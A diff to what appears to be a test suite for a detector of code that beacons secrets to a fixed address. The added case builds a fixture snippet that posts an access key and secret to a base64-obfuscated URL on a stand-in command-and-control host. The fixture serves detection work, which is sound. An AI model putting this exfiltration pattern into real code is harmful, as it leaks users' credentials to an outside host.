@@ -293,6 +293,13 @@ describe('secret-beacon: keys posted to a fixed address, reply and errors droppe
       ).toEqual([[7, 'critical', 'runtime']]);
     }
   });
+  it('finds a decoded address longer than an argument keeps (the keyword argument is cut to 200 characters)', () => {
+    const long = Buffer.from(`https://c2.example/${'k'.repeat(160)}`).toString('base64');
+    const found = hits(
+      beacon('{"ak": self._ak, "secret": self._secret}', `base64.b64decode('${long}').decode()`),
+    );
+    expect(found.map((h) => h.line)).toEqual([7]);
+  });
   it('fires when the reply is bound to `_` or awaited', () => {
     for (const call of ['_ = requests.post', 'await session.post']) {
       const found = hits(
